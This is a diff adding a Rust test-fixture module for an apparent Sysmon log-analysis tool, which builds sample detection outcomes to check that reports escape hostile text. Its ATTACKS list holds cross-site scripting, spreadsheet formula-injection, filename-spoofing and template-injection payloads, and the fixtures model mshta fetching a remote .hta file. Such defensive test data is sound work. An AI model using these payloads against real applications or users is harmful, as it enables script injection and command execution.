@@ -1,0 +1,319 @@
+//! Outcomes made by hand for the report tests: a plain one, a hostile one, an empty one and a large one. It tests nothing itself.
+#![allow(dead_code, reason = "each test file uses its own part")]
+
+use std::collections::BTreeMap;
+use std::path::PathBuf;
+use std::sync::Arc;
+
+use evql::finding::*;
+use evql::time::Timestamp;
+use serde_json::{Map, Value, json};
+
+/// 2024-03-01T10:00:00Z in milliseconds since 1970.
+pub const BASE: i64 = 1_709_287_200_000;
+
+/// Strings a log can hold and that must stay text wherever they are shown.
+pub const ATTACKS: &[&str] = &[
+    "<script>document.title='owned'</script>",
+    "</script></style></textarea></svg><script>document.title='owned'</script>",
+    "\" onmouseover=\"document.title='owned'\" x=\"",
+    "' autofocus onfocus='document.title=1",
+    "javascript:document.title='owned'",
+    "[x](javascript:document.title='owned')",
+    "<img src=http://203.0.113.99/leak onerror=document.title='owned'>",
+    "<meta http-equiv=refresh content=\"0;url=http://203.0.113.99/\">",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "invoice\u{202e}fdp.exe",
+    "nul\0byte \u{1b}[2J\u{1b}]0;title\u{7}",
+    "two\r\nlines\tand a tab, \"quoted\"",
+    "{{ 7*7 }} {% raw %} ${7*7}",
+    "\u{fffd}\u{feff}\u{200b}lone surrogate's replacement",
+];
+
+/// The timestamp `millis` after [`BASE`].
+pub fn at(millis: i64) -> Timestamp {
+    Timestamp::from_unix_millis(BASE + millis)
+}
+
+pub fn rule(severity: Severity) -> Arc<RuleInfo> {
+    Arc::new(RuleInfo {
+        id: "b0a7c0de-0000-4000-8000-000000000001".to_owned(),
+        name: "Unusual network activity from a Windows system binary".to_owned(),
+        description: "A program that ships with Windows reached the network within five minutes of its start.".to_owned(),
+        version: Some(3),
+        severity,
+        risk_score: 47,
+        tags: vec!["windows".to_owned()],
+        threats: vec![threat("T1218", "System Binary Proxy Execution")],
+        sha256: "ab".repeat(32),
+        origin: "built-in".to_owned(),
+    })
+}
+
+fn threat(id: &str, name: &str) -> Threat {
+    Threat {
+        tactic_id: "TA0005".to_owned(),
+        tactic_name: "Defense Evasion".to_owned(),
+        techniques: vec![Technique { id: id.to_owned(), name: name.to_owned() }],
+    }
+}
+
+fn object(value: Value) -> Map<String, Value> {
+    value.as_object().cloned().unwrap_or_default()
+}
+
+fn event(event_id: u32, record_id: u64, millis: i64, host: &str, mut document: Value) -> EvidenceEvent {
+    document["event"]["code"] = json!(event_id.to_string());
+    document["event"]["provider"] = json!("Microsoft-Windows-Sysmon");
+    document["host"] = json!({"name": host, "os": {"type": "windows"}});
+    EvidenceEvent {
+        timestamp: at(millis),
+        created: at(millis + 2),
+        event_id,
+        record_id,
+        channel: "Microsoft-Windows-Sysmon/Operational".to_owned(),
+        computer: host.to_owned(),
+        document: object(document),
+        evidence: Evidence {
+            source: format!("case/{host}/Microsoft-Windows-Sysmon%4Operational.evtx"),
+            sha256: Some("cd".repeat(32)),
+            copies: 1,
+            other_sources: Vec::new(),
+        },
+    }
+}
+
+/// A process start and a connection `delta` ms later.
+pub fn finding(number: u64, host: &str, process: &str, delta: i64, severity: Severity) -> Finding {
+    let guid = format!("{{365abb72-6759-5cd8-0000-{number:012x}}}");
+    let image = format!("C:\\Windows\\System32\\{process}");
+    let start = json!({
+        "event": {"category": ["process"], "type": ["start"], "action": "Process creation"},
+        "process": {
+            "entity_id": guid, "pid": 4242 + number, "name": process, "executable": image,
+            "command_line": format!("{image} http://update.example/a{number}.hta --quiet"), "working_directory": "C:\\Users\\anna\\",
+            "hash": {"sha256": "0f".repeat(32)}, "pe": {"original_file_name": process.to_uppercase(), "company": "Microsoft Corporation"},
+            "parent": {
+                "entity_id": "{365abb72-0000-5cd8-0000-000000000001}", "pid": 1372, "name": "explorer.exe",
+                "executable": "C:\\Windows\\explorer.exe", "command_line": "C:\\Windows\\explorer.exe"
+            }
+        },
+        "user": {"domain": "CORP", "name": "anna"},
+        "winlog": {"event_data": {"IntegrityLevel": "Medium", "LogonId": "0x3e7"}}
+    });
+    let connection = json!({
+        "event": {"category": ["network"], "type": ["start", "connection", "protocol"], "action": "Network connection"},
+        "process": {"entity_id": guid, "pid": 4242 + number, "name": process, "executable": image},
+        "user": {"domain": "CORP", "name": "anna"},
+        "network": {"transport": "tcp", "direction": "egress", "type": "ipv4", "protocol": "https"},
+        "source": {"ip": "10.0.2.15", "port": 49_800 + number % 1000},
+        "destination": {"ip": format!("203.0.113.{}", number % 250 + 1), "port": 443}
+    });
+    let millis = (number as i64) * 61_000;
+    Finding {
+        id: format!("f-{number:016x}"),
+        rule: rule(severity),
+        severity,
+        host: host.to_owned(),
+        clock: Clock::Created,
+        delta_ticks: Some(delta * 10_000),
+        threats: vec![threat("T1218.005", "Mshta")],
+        notes: Vec::new(),
+        events: vec![
+            Some(event(1, 16_000 + number * 3, millis, host, start)),
+            Some(event(3, 16_001 + number * 3, millis + delta, host, connection)),
+        ],
+    }
+}
+
+fn source(name: &str, status: Status, problems: u64) -> SourceReport {
+    let usable = matches!(status, Status::Read | Status::Partial);
+    SourceReport {
+        source: name.to_owned(),
+        size: 1_118_208,
+        modified: Some(at(90_000_000)),
+        sha256: Some("cd".repeat(32)),
+        status,
+        chunks: 17,
+        records: if usable { 2_310 } else { 0 },
+        sysmon_records: if usable { 2_298 } else { 0 },
+        first: usable.then(|| at(-86_400_000)),
+        last: usable.then(|| at(7_200_000)),
+        problems,
+    }
+}
+
+fn host(name: &str, events: &[(u32, u64)]) -> HostCoverage {
+    let events: BTreeMap<u32, u64> = events.iter().copied().collect();
+    HostCoverage { host: name.to_owned(), first: Some(at(-86_400_000)), last: Some(at(7_200_000)), events }
+}
+
+fn outcome(findings: Vec<Finding>, hosts: Vec<HostCoverage>, sources: Vec<SourceReport>, damages: Vec<Damage>) -> Outcome {
+    Outcome { findings, rules: vec![rule(Severity::Medium)], sources, hosts, damages, clock: Clock::Created, interrupted: false }
+}
+
+pub fn run() -> Run {
+    Run {
+        version: "0.1.0".to_owned(),
+        arguments: ["evql", "scan", "case"].map(str::to_owned).to_vec(),
+        started: at(100_000_000),
+        ended: at(100_001_250),
+        threads: 8,
+        exit_code: 2,
+    }
+}
+
+/// A day in a small company: findings of three severities, one host without network events, one damaged log.
+pub fn plain() -> Outcome {
+    let mut dns = finding(4, "WS03", "regsvr32.exe", 480, Severity::High);
+    if let Some(Some(query)) = dns.events.get_mut(1) {
+        query.event_id = 22;
+        query.document.remove("destination");
+        query.document.remove("source");
+        query.document.remove("network");
+        query.document.insert("dns".to_owned(), json!({"question": {"name": "cdn.evil-updates.example"}, "resolved_ip": ["198.51.100.23"]}));
+    }
+    let mut inverted = finding(2, "WS02", "msbuild.exe", 297_100, Severity::Medium);
+    inverted.notes.push("By UtcTime the connection comes before the start: Elastic, which orders by UtcTime, would have missed this.".to_owned());
+    if let Some(Some(start)) = inverted.events.get_mut(0) {
+        start.evidence.copies = 2;
+        start.evidence.other_sources.push("case/WS02/Archive-Sysmon-2024-03-01.evtx".to_owned());
+    }
+    let mut missing = finding(7, "WS01", "msxsl.exe", 12_000, Severity::Low);
+    missing.events.insert(1, None);
+    let findings = vec![
+        finding(1, "WS01", "mshta.exe", 1_406, Severity::High),
+        inverted,
+        finding(3, "WS01", "msiexec.exe", 40_000, Severity::Medium),
+        dns,
+        finding(5, "WS03", "mshta.exe", 2_000, Severity::Critical),
+        missing,
+    ];
+    outcome(
+        findings,
+        vec![
+            host("DC01", &[(1, 310), (5, 300), (22, 44)]),
+            host("WS01", &[(1, 812), (3, 120), (5, 799), (7, 20_310), (22, 95)]),
+            host("WS02", &[(1, 402), (3, 88)]),
+            host("WS03", &[(1, 507), (3, 61), (5, 499), (22, 12)]),
+        ],
+        vec![
+            source("case/DC01/Sysmon.evtx", Status::Read, 0),
+            source("case/WS01/Microsoft-Windows-Sysmon%4Operational.evtx", Status::Partial, 2),
+            source("case/WS02/Archive-Sysmon-2024-03-01.evtx", Status::Read, 0),
+            source("case/WS03/empty.evtx", Status::Unreadable, 1),
+            source("case/notes.evtx", Status::Skipped, 1),
+        ],
+        vec![
+            damage("case/WS01/Microsoft-Windows-Sysmon%4Operational.evtx", Some(3), Some(1201), DamageKind::Record, "the record's template ends early", true),
+            damage("case/WS01/Microsoft-Windows-Sysmon%4Operational.evtx", Some(4), None, DamageKind::Checksum, "the chunk's checksum is wrong", false),
+            damage("case/WS03/empty.evtx", None, None, DamageKind::Unreadable, "the file holds 0 bytes", true),
+            damage("case/notes.evtx", None, None, DamageKind::NotEvidence, "a text file, not an event log", false),
+        ],
+    )
+}
+
+fn damage(source: &str, chunk: Option<u64>, record: Option<u64>, kind: DamageKind, reason: &str, lost: bool) -> Damage {
+    Damage { source: source.to_owned(), chunk, record, kind, reason: reason.to_owned(), lost }
+}
+
+/// Nothing found on two hosts.
+pub fn quiet() -> Outcome {
+    let mut outcome = plain();
+    outcome.findings.clear();
+    outcome.damages.clear();
+    outcome.sources.truncate(1);
+    outcome
+}
+
+/// `count` findings over `hosts` hosts.
+pub fn large(count: u64, hosts: u64) -> Outcome {
+    let severities = [Severity::Low, Severity::Medium, Severity::Medium, Severity::High, Severity::Critical];
+    let processes = ["mshta.exe", "regsvr32.exe", "msbuild.exe", "cmstp.exe"];
+    let pick = |number: u64, from: usize| (number as usize * 7) % from;
+    let findings = (0..count)
+        .map(|number| {
+            let host = format!("HOST{:03}", number % hosts);
+            finding(number, &host, processes[pick(number, 4)], 900 + number as i64 % 9_000, severities[pick(number, 5)])
+        })
+        .collect();
+    let coverage = (0..hosts).map(|number| host(&format!("HOST{number:03}"), &[(1, 900), (3, 80), (22, 7)])).collect();
+    let sources = (0..hosts).map(|number| source(&format!("case/HOST{number:03}.evtx"), Status::Read, 0)).collect();
+    outcome(findings, coverage, sources, Vec::new())
+}
+
+/// Every attack in every field, and a command line of 1 MB.
+pub fn hostile() -> Outcome {
+    let mut outcome = plain();
+    outcome.findings = ATTACKS.iter().enumerate().map(|(number, attack)| hostile_finding(number as u64, attack)).collect();
+    let mut long = finding(99, "WS01", "mshta.exe", 10, Severity::Low);
+    if let Some(Some(start)) = long.events.get_mut(0) {
+        start.document["process"]["command_line"] = json!(format!("<b>{}", "é<".repeat(350_000)));
+    }
+    outcome.findings.push(long);
+    let all = ATTACKS.join(" ");
+    outcome.rules = vec![hostile_rule(&all)];
+    outcome.sources.push(SourceReport { source: all.clone(), sha256: Some(all.clone()), ..source("x", Status::Partial, 1) });
+    outcome.hosts.push(host(&all, &[(1, 1)]));
+    outcome.damages.push(damage(&all, Some(1), Some(1), DamageKind::Chunk, &all, true));
+    outcome
+}
+
+/// A run whose command line is hostile too: a folder's name can carry markup.
+pub fn hostile_run() -> Run {
+    Run { version: ATTACKS.concat(), arguments: ATTACKS.iter().map(|attack| (*attack).to_owned()).collect(), ..run() }
+}
+
+fn hostile_rule(text: &str) -> Arc<RuleInfo> {
+    let own = || text.to_owned();
+    let threats = vec![Threat {
+        tactic_id: own(),
+        tactic_name: own(),
+        techniques: vec![Technique { id: own(), name: own() }],
+    }];
+    let base = rule(Severity::High);
+    let info = RuleInfo {
+        id: own(), name: own(), description: own(), tags: vec![own()], sha256: own(), origin: own(), threats, ..(*base).clone()
+    };
+    Arc::new(info)
+}
+
+fn hostile_finding(number: u64, attack: &str) -> Finding {
+    let mut finding = finding(number, attack, "mshta.exe", 1_000, Severity::High);
+    finding.id = format!("{}-{number}", finding.id);
+    finding.rule = hostile_rule(attack);
+    finding.threats = finding.rule.threats.clone();
+    finding.notes = vec![attack.to_owned()];
+    for event in finding.events.iter_mut().flatten() {
+        poison(&mut event.document, attack);
+        event.document.insert(attack.to_owned(), json!({attack: [attack, attack]}));
+        event.channel = attack.to_owned();
+        event.computer = attack.to_owned();
+        event.evidence = Evidence {
+            source: attack.to_owned(),
+            sha256: Some(attack.to_owned()),
+            copies: 2,
+            other_sources: vec![attack.to_owned()],
+        };
+    }
+    finding
+}
+
+fn poison(object: &mut Map<String, Value>, attack: &str) {
+    for value in object.values_mut() {
+        match value {
+            Value::Object(inner) => poison(inner, attack),
+            Value::String(text) => *text = attack.to_owned(),
+            Value::Array(items) => *items = vec![json!(attack)],
+            _ => {}
+        }
+    }
+}
+
+/// `target/tmp/<name>`, empty: where a browser or pandas can look at what a test wrote.
+pub fn fresh_folder(name: &str) -> PathBuf {
+    let folder = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(name);
+    let _ = std::fs::remove_dir_all(&folder);
+    folder
+}
